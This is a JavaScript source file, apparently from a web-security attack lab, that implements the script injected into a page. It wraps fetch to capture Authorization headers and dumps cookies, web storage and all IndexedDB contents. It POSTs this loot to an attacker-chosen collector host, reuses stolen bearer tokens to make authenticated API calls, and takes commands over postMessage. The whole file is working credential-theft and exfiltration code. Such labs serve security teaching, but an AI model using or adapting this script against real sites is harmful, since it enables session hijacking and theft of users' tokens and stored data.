// The injected script of the attack lab. It takes all that a script in the page can take, knows nothing of the
// app, and leaves what it has done at `window.lab`. README.md of the example describes these hooks.

(() => {
  const loot = { cookies: '', localStorage: {}, sessionStorage: {}, indexedDB: {}, headers: [], sent: null }
  const changed = () => window.dispatchEvent(new Event('lab'))

  /** Header theft: every token that passes through `fetch`. */
  const original = window.fetch
  window.fetch = function (input, init) {
    const headers = new Headers(init?.headers ?? (input instanceof Request ? input.headers : undefined))
    const authorization = headers.get('Authorization')
    if (authorization && !loot.headers.includes(authorization)) {
      loot.headers.push(authorization)
      changed()
    }
    return original.call(window, input, init)
  }

  const done = (request) => new Promise((resolve, reject) => {
    request.onsuccess = () => resolve(request.result)
    request.onerror = () => reject(request.error)
  })

  /** Storage theft: all databases, web storage and readable cookies. */
  async function steal() {
    loot.cookies = document.cookie
    loot.localStorage = { ...localStorage }
    loot.sessionStorage = { ...sessionStorage }
    for (const { name } of await indexedDB.databases()) {
      const database = await done(indexedDB.open(name))
      for (const store of database.objectStoreNames) {
        loot.indexedDB[`${name}/${store}`] = await done(database.transaction(store).objectStore(store).getAll())
      }
      database.close()
    }
    changed()
    return loot
  }

  /** Carries the loot to a host of the attacker's. Resolves with whether it has left. */
  async function send(collector = sessionStorage.getItem('lab.collector')) {
    if (!collector) return false
    loot.sent = await original(collector, { method: 'POST', mode: 'no-cors', body: JSON.stringify(await steal()) })
      .then(() => true, () => false)
    changed()
    return loot.sent
  }

  /** The stored body half; in the session flow one that the script asks for, as the page does. */
  async function bodyHalf(url) {
    await steal()
    const [record] = Object.values(loot.indexedDB).flat().filter((value) => value?.access)
    if (record) return record.access
    const answer = await original(new URL('/iam/oauth/token', url), {
      method: 'POST', credentials: 'include', body: new URLSearchParams({ grant_type: 'session' }),
    })
    return (await answer.json()).access_token
  }

  /**
   * The one that nothing stops: a call out of the live page, to which the browser adds the cookie half. A token that
   * has expired is no obstacle either: the page will have another in a moment.
   */
  async function ride(url = '/api/auth/me', options = {}) {
    for (let tries = 1; ; tries++) {
      const token = await bodyHalf(new URL(url, location))
      const answer = await window.fetch(url, {
        ...options,
        credentials: 'include',
        headers: { ...options.headers, ...(token && { Authorization: `Bearer ${token}` }) },
      })
      const body = await answer.json().catch(() => null)
      if (answer.status !== 401 || tries === 5) return { status: answer.status, body }
      await new Promise((done) => setTimeout(done, 500))
    }
  }

  window.lab = { loot, steal, send, ride }

  /** At the beck and call of whoever has a handle of this window: pages of the attack lab. */
  const orders = { steal, ride }
  window.addEventListener('message', async ({ data, source, origin }) => {
    const order = orders[data?.lab]
    if (order) source.postMessage({ lab: data.id, result: await order(...data.given) }, origin)
  })
  changed()
})()
